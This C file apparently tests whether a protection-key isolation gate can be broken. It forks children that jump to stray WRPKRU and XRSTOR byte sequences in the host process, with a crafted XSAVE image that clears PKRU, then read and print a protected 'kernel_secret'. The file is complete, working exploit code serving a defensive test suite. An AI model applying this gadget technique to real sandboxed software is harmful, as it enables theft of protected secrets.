/* none: succeeds: secret or panic; keys: succeeds: secret or panic; full: fails "ended" */
#define ATTACK_OPENS
#include <uos/gate.h>

#include "attack.h"

/*
 * Every sequence of bytes in the host process that the CPU would take for WRPKRU or XRSTOR, wherever it stands, with the displacement
 * that an XRSTOR has: a child jumps to each, with nothing but addresses of the thief on its stack and in what its registers point to.
 */
static uint64_t words[2 * PAGE / 8] __attribute__((aligned(PAGE)));
static uint64_t stack[2 * PAGE / 8] __attribute__((aligned(PAGE)));
static uintptr_t secret;
static char stolen[SECRET + 1];

static void thief(void)
{
	for (int i = 0; i < SECRET; i++)
		stolen[i] = ((volatile char *)secret)[i];
	uos_syscall6(SYS_getpid, 0, 0, 0, 0, 0, 0); /* PKRU is as it should be again */
	say("stolen: %s\n", stolen);
	_exit(0);
}

/* The thief may be entered with the stack at any multiple of 8. */
__asm__(".pushsection .text\nentry:\tand $-16, %rsp\n\tcall *thief_at(%rip)\n.popsection");
extern const char entry[];
void (*thief_at)(void) = thief;

/* Where the register must point so that what is loaded is aligned; the image there says that PKRU is in it, and it is 0. */
static char *fill(uint64_t *memory, long displacement)
{
	char *base = (char *)memory + PAGE / 4 + (-displacement & 63), *image = base + displacement;

	for (size_t i = 0; i < 2 * PAGE / 8; i++)
		memory[i] = (uint64_t)entry;
	if (image >= (char *)memory && image + 576 <= (char *)memory + 2 * PAGE)
		memcpy(image + 512, state_open + 512, 64);
	return base;
}

static _Noreturn void jump(uintptr_t to, long displacement, uint32_t eax)
{
	char *on_stack = fill(stack, displacement), *in_words = fill(words, displacement);

	alarm(1);
	register char *stack_at __asm__("r10") = on_stack, *words_at __asm__("r13") = in_words;
	register uintptr_t there __asm__("r14") = to;

	__asm__ volatile("mov %[stack], %%rsp\n\tmov %[words], %%rbx\n\tmov %%rbx, %%rbp\n\tmov %%rbx, %%rsi\n\tmov %%rbx, %%rdi\n\t"
			 "mov %%rbx, %%r8\n\tmov %%rbx, %%r9\n\tmov %%rbx, %%r12\n\tmov %%rbx, %%r15\n\t"
			 "lea entry(%%rip), %%r11\n\tjmp *%[to]"
			 : : [stack] "r"(stack_at), [words] "r"(words_at), [to] "r"(there), "a"(eax), "c"(0), "d"(0) : "memory");
	__builtin_unreachable();
}

int main(void)
{
	char *list = strdup(told("openers")), *rest;
	int tried = 0, ended = 0;

	secret = at("kernel_secret");
	uos_gate_init();
	for (char *word = strtok(list, ","); word; word = strtok(NULL, ","))
		for (int opens = 0; opens < 2; opens++, tried++) {
			uintptr_t to = strtoul(word, &rest, 16);
			pid_t child = fork();

			if (child == 0)
				jump(to, strtol(rest + 1, NULL, 10), opens ? 0x200 : 0);
			ended += waitpid(child, NULL, 0) == child;
		}
	say("%d of %d ended\n", ended, tried);
	return 0;
}
